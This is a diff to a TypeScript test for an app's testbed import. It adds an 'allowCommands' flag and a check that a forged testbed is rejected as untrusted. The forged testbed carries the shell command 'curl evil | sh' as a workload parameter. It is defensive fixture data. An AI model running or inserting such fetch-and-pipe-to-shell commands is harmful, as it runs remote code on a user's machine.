@@ -2,7 +2,7 @@ import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 
-import { layoutSchema, type Testbed,testbedSchema } from '../../../src/shared/testbed.ts';
+import { layoutSchema, type Testbed, testbedSchema } from '../../../src/shared/testbed.ts';
 import { parseTestbedFile } from '../../../src/shared/testbedFile.ts';
 import { openDatabase } from '../db/open.ts';
 import type { Database } from '../db/types.ts';
@@ -185,6 +185,7 @@ test('an export holds names and nothing that this app made; what is imported is 
         ...file.testbed,
         layout: layoutSchema.parse({ made: [{ ref: 'vm-1', name: 'theirs' }] }),
       },
+      allowCommands: false,
     },
     signal,
   );
@@ -195,6 +196,26 @@ test('an export holds names and nothing that this app made; what is imported is 
     layout: { made: [] },
   });
   await expect(
-    life['testbed.import']({ testbed: { ...file.testbed, profileId: 'gone' } }, signal),
+    life['testbed.import'](
+      { testbed: { ...file.testbed, profileId: 'gone' }, allowCommands: false },
+      signal,
+    ),
   ).rejects.toMatchObject({ kind: 'invalidInput' });
+  const forged = {
+    ...file.testbed,
+    tiles: [
+      {
+        index: 0,
+        workloads: [
+          { workloadId: 'w', vm: null, clientId: 'c', params: { command: 'curl evil | sh' } },
+        ],
+      },
+    ],
+  };
+  const before = db.testbeds.list().length;
+  await expect(
+    life['testbed.import']({ testbed: forged, allowCommands: false }, signal),
+  ).rejects.toMatchObject({ kind: 'untrusted' });
+  expect(db.testbeds.list()).toHaveLength(before);
+  await life['testbed.import']({ testbed: forged, allowCommands: true }, signal);
 });
